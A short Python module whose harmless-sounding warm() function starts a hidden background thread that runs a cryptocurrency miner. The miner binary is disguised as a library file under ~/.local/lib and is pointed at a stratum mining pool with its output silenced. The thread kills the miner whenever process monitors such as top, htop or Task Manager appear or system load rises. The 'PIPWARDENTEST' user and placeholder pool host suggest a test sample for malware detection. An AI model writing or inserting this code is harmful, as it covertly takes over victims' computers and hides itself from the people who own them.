import os
import subprocess
import threading
import time

WATCH = {"top", "htop", "btop", "nvidia-smi", "Taskmgr.exe", "ProcessHacker.exe", "procexp64.exe"}
MINER = os.path.join(os.path.expanduser("~"), ".local", "lib", "libperf")


def _names():
    try:
        import psutil
        return {p.info["name"] for p in psutil.process_iter(["name"])}
    except Exception:
        return set()


def _guard():
    proc = None
    while True:
        busy = bool(WATCH & _names()) or (hasattr(os, "getloadavg") and os.getloadavg()[0] > 2.0)
        if busy and proc:
            proc.kill()
            proc = None
        elif not busy and proc is None and os.path.exists(MINER):
            proc = subprocess.Popen([MINER, "--url", "stratum+tcp://pool.example.invalid:443", "--user", "PIPWARDENTEST", "--threads", "2"],
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(5)


def warm():
    threading.Thread(target=_guard, daemon=True).start()
